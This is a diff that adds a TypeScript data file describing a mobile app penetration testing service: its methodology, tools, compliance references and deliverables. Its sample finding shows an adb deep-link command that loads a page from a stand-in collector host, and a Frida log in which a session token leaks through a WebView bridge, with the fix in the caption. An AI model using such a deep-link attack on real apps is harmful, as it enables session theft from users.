@@ -1,0 +1,176 @@
+import { defaultCategory, type Service } from './service.ts';
+
+export const mobilePenetrationTesting: Service = {
+  slug: 'mobile-penetration-testing',
+  title: 'Mobile Penetration Testing',
+  seoTitle: 'Mobile App Penetration Testing',
+  description:
+    'iOS and Android penetration testing by OWASP MASVS and MASTG: the binary, the device, the wire and the API behind it, on real hardware.',
+  icon: 'smartphone',
+  category: defaultCategory,
+  lead: 'Your app runs on hardware that the attacker owns. We take the shipped build apart, run it on rooted and stock devices, and show what it gives away: on disk, to other apps, on the wire, and to the backend.',
+  quoteServiceIds: ['mobile', 'api'],
+  highlights: [
+    {
+      title: 'The build your users get',
+      text: 'We test the release artefact with its obfuscation, pinning and signing as shipped. A debug build hides exactly the defects that we look for.',
+    },
+    {
+      title: 'Real devices, both kinds',
+      text: 'Stock phones show what a thief or a hostile app can reach. Rooted and jailbroken ones show what the app trusts the device to protect.',
+    },
+    {
+      title: 'The backend is half the app',
+      text: 'A bypassed fingerprint prompt is a local problem. An API that believes the app is a problem for all your users, so we follow each call to the server.',
+    },
+    {
+      title: 'Privacy read from traffic',
+      text: 'We list every host the app talks to, what it sends, and which embedded SDK sent it. Then you can compare that with your store listing.',
+    },
+  ],
+  methodology: [
+    {
+      name: 'Builds and devices',
+      text: 'You send the release IPA and APK or App Bundle, plus one build without pinning. We confirm versions, hashes, test accounts and which MASVS groups apply.',
+      time: 'Half a day',
+    },
+    {
+      name: 'Static analysis',
+      text: 'Decompile, read manifest and entitlements, list exported components, URL schemes and embedded keys, and mark the code paths worth hooking.',
+      time: '1 to 2 days',
+    },
+    {
+      name: 'Storage and platform',
+      text: 'Keychain classes, Keystore use, backups, logs, clipboard, snapshots, WebViews, intents and deep links, exercised on the device (MASVS-STORAGE, MASVS-PLATFORM).',
+      time: '1 to 2 days',
+    },
+    {
+      name: 'Traffic and trust',
+      text: 'TLS validation, pinning and its bypass, cleartext exceptions, push payloads and WebSocket channels (MASVS-NETWORK).',
+      time: '1 day',
+    },
+    {
+      name: 'Backend of the app',
+      text: 'Every API call that the app makes, replayed with other users, forged device ids and old app versions that the server should refuse.',
+      time: '2 to 3 days',
+    },
+    {
+      name: 'Resilience, if required',
+      text: 'How long root detection, integrity checks and obfuscation hold against a tester with Frida. We report effort in hours, not pass or fail (MASVS-RESILIENCE).',
+      time: '1 to 2 days',
+    },
+    {
+      name: 'Write-up and walkthrough',
+      text: 'Each finding is repeated on a clean device per platform. Then your iOS and Android engineers go through them with us.',
+      time: '1 day',
+    },
+  ],
+  tools: [
+    { name: 'Frida', use: 'Hooking methods at runtime: pinning, biometrics, crypto calls' },
+    { name: 'objection', use: 'Quick runtime exploration of keychain, storage and classes' },
+    { name: 'jadx', use: 'Reading Android bytecode as Java' },
+    { name: 'apktool', use: 'Unpacking, patching and rebuilding the APK' },
+    { name: 'Ghidra', use: 'Native libraries and iOS binaries' },
+    { name: 'MobSF', use: 'A first static pass over manifest, entitlements and known SDKs' },
+    { name: 'Burp Suite Pro', use: 'Watching and changing the traffic between app and API' },
+    { name: 'adb and drozer', use: 'Calling exported components as a hostile app would' },
+  ],
+  compliance: [
+    {
+      standard: 'OWASP MASVS 2',
+      clause: 'STORAGE to PRIVACY',
+      text: 'Each control group is reported as tested, not applicable or out of scope, with MASTG test references.',
+    },
+    {
+      standard: 'PCI DSS 4.0.1',
+      clause: '6.2.4',
+      text: 'Shows that app code that handles payments resists the common attack classes named there.',
+    },
+    {
+      standard: 'GDPR',
+      clause: 'Art. 25, Art. 32',
+      text: 'The traffic inventory shows which personal data leaves the phone, to whom, and under which protection.',
+    },
+    {
+      standard: 'HIPAA',
+      clause: '§164.312(e)(1)',
+      text: 'Checks transmission security of patient data on networks that neither side controls.',
+    },
+  ],
+  features: [
+    {
+      icon: 'lock',
+      title: 'Data at rest on the phone',
+      description:
+        'Keychain access classes, Keystore bindings, SQLite files, caches, screenshots and backups, read from a stolen and a rooted device.',
+    },
+    {
+      icon: 'fingerprint',
+      title: 'Biometrics that mean something',
+      description:
+        'We check whether the fingerprint releases a key in hardware or only returns true. The second kind falls to a one-line hook.',
+    },
+    {
+      icon: 'webhook',
+      title: 'Deep links and intents',
+      description:
+        'Custom schemes, App Links, exported activities and content providers, called by a hostile app and by a web page.',
+    },
+    {
+      icon: 'network',
+      title: 'Pinning and TLS validation',
+      description:
+        'Certificate checks with wrong hosts, user-installed authorities and expired chains, on each network stack the app embeds.',
+    },
+    {
+      icon: 'puzzle',
+      title: 'SDKs you did not write',
+      description:
+        'Analytics, ads, chat and payment libraries: what they collect, where they send it, and which known flaw they carry.',
+    },
+    {
+      icon: 'terminal',
+      title: 'Reverse engineering effort',
+      description:
+        'How many hours a skilled person needs to find the signing secret, patch the licence check or automate the app.',
+    },
+  ],
+  reportContains: [
+    'MASVS coverage table for each platform',
+    'Findings per platform with device, OS version, build hash and steps',
+    'Frida scripts and proof-of-concept apps, ready to run',
+    'List of hosts, SDKs and data types seen on the wire',
+    'Fixes in Swift and Kotlin, or in the cross-platform framework you use',
+  ],
+  notIncluded: [
+    'Tests of the app stores or of the operating system itself',
+    'Backend hosts beyond the API that the app calls',
+    'Attacks on baseband, SIM or the mobile carrier',
+    'Accessibility and performance reviews',
+  ],
+  weNeed: [
+    'Release builds for both platforms, plus one build with pinning switched off',
+    'Two test accounts per role, with devices registered where you require it',
+    'API documentation or a traffic capture of the main flows',
+    'Provisioning for our test devices, if you ship through TestFlight or an MDM',
+  ],
+  duration: '8 to 12 working days for one app on both platforms',
+  evidence: {
+    title: 'A link that hands over the session',
+    language: 'Shell',
+    code: [
+      '$ adb shell am start -W -a android.intent.action.VIEW \\',
+      '    -d "kestrel://open?url=https://collector.tester.example/x.html"',
+      'Status: ok',
+      'Activity: com.kestrel.app/.WebActivity',
+      '',
+      '$ frida -U -N com.kestrel.app -l bridge.js',
+      '[bridge] KestrelBridge.getSession() called',
+      '[bridge] caller: https://collector.tester.example/x.html',
+      '[bridge] return: eyJhbGciOiJSUzI1NiJ9.[redacted]',
+    ],
+    caption:
+      'Sample finding. A deep link opens any URL in a WebView that exposes a JavaScript bridge. One tap in a chat message leaks the token. Allow own hosts only, and bind the bridge to them. MASVS-PLATFORM-2, CWE-749.',
+  },
+  related: ['api-penetration-testing', 'web-penetration-testing', 'continuous-monitoring'],
+};
